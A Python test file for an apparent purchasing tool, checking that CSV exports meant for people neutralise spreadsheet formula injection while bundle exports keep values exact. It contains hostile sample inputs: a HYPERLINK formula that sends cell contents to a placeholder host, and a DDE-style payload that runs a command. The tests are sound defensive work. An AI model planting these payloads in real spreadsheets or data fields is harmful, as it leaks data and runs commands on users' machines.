"""Spreadsheet formula injection (issue #20, item 6): text that a spreadsheet would take
for a formula is written with a leading ``'`` in CSV meant for people (``--csv``), while
the bundle export keeps every value exactly, so it imports again as it was. Both
databases."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from sqlalchemy import Engine
from typer.testing import CliRunner

from pegboard import db
from pegboard.bundle.importer import read_bundle
from pegboard.cli import app
from pegboard.services.company_data import replace_company
from pegboard.services.spreadsheet import safe_cell

BASIC = Path(__file__).parents[1] / "scenarios" / "basic" / "bundle"
HOSTILE = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'


def test_text_that_starts_a_formula_is_quoted() -> None:
    for text in ("=1+1", "+1", "-1", "@SUM(1+1)*cmd|' /C calc'!A0", "\tx", "\rx"):
        assert safe_cell(text) == "'" + text
    assert safe_cell("SO-1001") == "SO-1001" and safe_cell("a=b") == "a=b"
    assert safe_cell(-5) == -5 and safe_cell(-2.5) == -2.5  # numbers stay numbers
    assert safe_cell(None) == ""


def test_csv_for_people_is_safe_and_the_bundle_export_is_exact(
    engine: Engine, tmp_path: Path
) -> None:
    with db.session_factory(engine)() as s:
        replace_company(s, read_bundle(BASIC), author="test")
    env = {"PEGBOARD_DATABASE_URL": engine.url.render_as_string(hide_password=False)}
    runner = CliRunner()
    made = runner.invoke(app, ["po", "new", "C1:5:2026-12-31", "--supplier", HOSTILE], env=env)
    assert made.exit_code == 0, made.output

    listed = runner.invoke(app, ["po", "list", "--csv"], env=env)
    assert listed.exit_code == 0, listed.output
    suppliers = {row["supplier"] for row in csv.DictReader(io.StringIO(listed.stdout))}
    assert "'" + HOSTILE in suppliers and HOSTILE not in suppliers

    exported = runner.invoke(app, ["export", str(tmp_path / "out")], env=env)
    assert exported.exit_code == 0, exported.output
    with (tmp_path / "out" / "purchase_orders.csv").open(newline="", encoding="utf-8") as f:
        assert HOSTILE in {row["supplier"] for row in csv.DictReader(f)}  # exactly as entered
    again = read_bundle(tmp_path / "out")
    assert HOSTILE in {p.supplier for p in again.purchases}
